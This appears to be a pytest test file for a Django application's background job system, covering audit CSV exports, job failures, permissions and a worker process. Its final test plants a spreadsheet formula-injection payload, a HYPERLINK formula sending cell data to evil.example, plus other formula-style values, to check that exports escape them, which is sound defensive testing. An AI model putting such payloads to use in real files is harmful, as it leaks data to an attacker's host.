import csv

import pytest

from telora.core import clock
from telora.core.models import AuditEvent, Job
from telora.core.services import Actor
from telora.core.services.actors import PermissionDeniedError
from telora.core.services.jobs import execute, job_kind, start_job


@job_kind("test_explode", title="Explodes")
def explode(ctx, **params):
    ctx.log("about to fail")
    raise ValueError("the disk is full")


def test_audit_export_runs_with_progress_and_writes_a_file(make_user, brand_a, brand_b, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path
    ann = make_user("ann", {brand_a: ["audit.view", "jobs.view"]})
    job = start_job("audit_export", actor=Actor(user=ann), at=clock.now(), brand=brand_a,
                    params={"brand_id": brand_a.pk})
    assert job.status == Job.Status.QUEUED
    job = execute(job.pk)
    assert job.status == Job.Status.SUCCEEDED
    expected = AuditEvent.objects.filter(brand=brand_a).count()
    assert job.progress_total == expected == job.progress_done == job.result["rows"]
    rows = list(csv.DictReader((tmp_path / job.result["file"]).open()))
    assert len(rows) == expected
    assert {row["brand_id"] for row in rows} == {str(brand_a.pk)}
    assert "wrote" in job.log


def test_a_failing_job_keeps_its_error_and_is_not_rerun(system, brand_a):
    job = start_job("test_explode", actor=system, at=clock.now(), brand=brand_a)
    job = execute(job.pk)
    assert job.status == Job.Status.FAILED
    assert "the disk is full" in job.error and "about to fail" in job.log
    assert execute(job.pk).attempts == 1  # a finished job is not run again


def test_starting_a_job_needs_its_right(make_user, brand_a):
    bob = make_user("bob", {brand_a: ["jobs.view"]})
    with pytest.raises(PermissionDeniedError, match="audit.view"):
        start_job("audit_export", actor=Actor(user=bob), at=clock.now(), brand=brand_a)


def test_start_defers_the_worker_task_after_commit(system, brand_a, django_capture_on_commit_callbacks):
    from procrastinate.contrib.django.models import ProcrastinateJob

    with django_capture_on_commit_callbacks(execute=True):
        job = start_job("audit_export", actor=system, at=clock.now(), brand=brand_a)
    queued = ProcrastinateJob.objects.filter(task_name="telora.core.run_job").latest("id")
    assert queued.args == {"job_id": job.pk}


@pytest.mark.django_db(transaction=True)
def test_a_real_worker_runs_a_started_job(make_brand, system, tmp_path):
    """`telora worker --one-shot` in its own process picks the job from PostgreSQL and runs it."""
    import os
    import subprocess
    import sys

    from django.db import connection

    brand = make_brand("delta")
    job = start_job("audit_export", actor=system, at=clock.now(), brand=brand, params={"brand_id": brand.pk})
    s = connection.settings_dict
    env = {**os.environ, "DATABASE_URL": f"postgresql://{s['USER']}@{s['HOST']}:{s['PORT']}/{s['NAME']}",
           "TELORA_VAR": str(tmp_path)}
    result = subprocess.run([sys.executable, "-m", "telora.cli", "worker", "--one-shot"], env=env,
                            capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    job.refresh_from_db()
    assert job.status == Job.Status.SUCCEEDED, job.error
    assert (tmp_path / "media" / job.result["file"]).exists()


def test_audit_export_neutralises_formulas_in_every_text_cell(make_brand, make_user, tmp_path, settings):
    """Brand names, actor labels and request ids reach the audit CSV; none may run in a spreadsheet."""
    from telora.core.services import record_event

    settings.MEDIA_ROOT = tmp_path
    evil = make_brand("evil", name='=HYPERLINK("http://evil.example/?"&A1,"open")')
    user = make_user("@A1+B1")  # Django's user names allow @ + - . _
    record_event(actor=Actor(user=user, request_id="-A1:B2"), at=clock.now(), action="update", obj=evil,
                 brand=evil, old={"name": "x"}, new={"name": "=1+1"})
    job = execute(start_job("audit_export", actor=Actor.system("tests"), at=clock.now(), brand=evil,
                            params={"brand_id": evil.pk}).pk)
    rows = list(csv.DictReader((tmp_path / job.result["file"]).open(newline="")))
    event = next(row for row in rows if row["action"] == "update")
    assert event["object"] == "'" + evil.name
    assert event["actor"] == "'@A1+B1"
    assert event["request_id"] == "'-A1:B2"
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row
